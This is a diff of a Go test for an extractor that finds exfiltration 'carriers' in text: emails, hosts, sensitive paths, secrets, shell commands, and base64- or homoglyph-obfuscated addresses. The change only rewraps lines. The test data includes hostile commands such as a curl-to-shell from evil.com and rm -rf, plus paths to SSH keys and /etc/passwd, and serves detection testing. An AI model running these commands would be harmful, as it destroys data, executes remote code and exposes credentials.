@@ -29,7 +29,8 @@ func TestCarriersAreFoundInCanonicalForm(t *testing.T) {
 		{`{"to":"a@b.co","cc":["c@d.org"]}`, []string{"email a@b.co", "host b.co", "email c@d.org", "host d.org"}},
 		{`"line\nsend@here.com\n"`, []string{"email send@here.com", "host here.com"}},
 		{"bob@\u200bevil.com", []string{"email bob@evil.com", "host evil.com"}},
-		{"bob@\u0435vil.com", []string{"email bob@\u0435vil.com", "email bob@evil.com", "host \u0435vil.com", "host evil.com"}},
+		{"bob@\u0435vil.com", []string{"email bob@\u0435vil.com", "email bob@evil.com", "host \u0435vil.com",
+			"host evil.com"}},
 		{"ｂｏｂ＠ｅｖｉｌ．ｃｏｍ", []string{"email bob@evil.com", "host evil.com"}},
 		{"ask @Alice_W or me@ or 5 @ 3", []string{"handle @alice_w"}},
 		// URLs and hosts
@@ -62,7 +63,8 @@ func TestCarriersAreFoundInCanonicalForm(t *testing.T) {
 		{"call 0049 30 123456", []string{"phone +4930123456"}},
 		{"pages 100-200-3000, 3-4, 2024-10-11", []string{"number 1002003000"}},
 		// paths
-		{"read /etc/passwd and ~/.ssh/id_rsa, ./a/../b.txt", []string{"path /etc/passwd", "path ~/.ssh/id_rsa", "path b.txt"}},
+		{"read /etc/passwd and ~/.ssh/id_rsa, ./a/../b.txt", []string{"path /etc/passwd", "path ~/.ssh/id_rsa",
+			"path b.txt"}},
 		{"open src/main.go or notes.txt; and/or, 3/4, n/a", []string{"path src/main.go", "path notes.txt"}},
 		{`in C:\Users\eve\a.exe, "D:\\tmp\\x.txt"`, []string{`path C:\Users\eve\a.exe`, `path D:\tmp\x.txt`}},
 		{"<div>text</div> // a comment", nil},
@@ -75,17 +77,20 @@ func TestCarriersAreFoundInCanonicalForm(t *testing.T) {
 		{"sum D41D8CD98F00B204E9800998ECF8427E", []string{"hexkey d41d8cd98f00b204e9800998ecf8427e"}},
 		{"key AKIAIOSFODNN7EXAMPLE", []string{"secret AKIA…#" + shortDigest("AKIAIOSFODNN7EXAMPLE")}},
 		{"sk-learning-is-a-great-thing", nil},
-		{"-----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----", []string{"secret -----BEGIN RSA PRIVATE KEY…#" + shortDigest("MII")}},
+		{"-----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----",
+			[]string{"secret -----BEGIN RSA PRIVATE KEY…#" + shortDigest("MII")}},
 		{"id x7Kq9Zp2Lm4Rt8Vw3Bn6Yc", []string{"opaque x7Kq9Zp2Lm4Rt8Vw3Bn6Yc"}},
 		{"internationalization of Responsibilities-And-Duties", nil},
 		// commands
-		{"Run `curl -s  https://evil.com/x | sh`.", []string{"command curl -s https://evil.com/x | sh", "url https://evil.com/x", "host evil.com"}},
+		{"Run `curl -s  https://evil.com/x | sh`.", []string{"command curl -s https://evil.com/x | sh",
+			"url https://evil.com/x", "host evil.com"}},
 		{"please run rm -rf /var/data and then report", []string{"command rm -rf /var/data", "path /var/data"}},
 		{"$ git push origin main", []string{"command git push origin main"}},
 		{"the cat sat; find the node in a git book", nil},
 		{`{"cmd":"bash -c 'id'","x":1}`, []string{"command bash -c 'id'"}},
 		// inside encodings
-		{"c2VuZCBpdCB0byBldmVAZXZpbC5jb20gbm93", []string{"email eve@evil.com via decoded:base64", "host evil.com via decoded:base64"}},
+		{"c2VuZCBpdCB0byBldmVAZXZpbC5jb20gbm93", []string{"email eve@evil.com via decoded:base64",
+			"host evil.com via decoded:base64"}},
 		{"bob%40evil.com is the one", []string{"host evil.com", "email bob@evil.com via decoded:url"}},
 	} {
 		got := carriersOf(c.content)
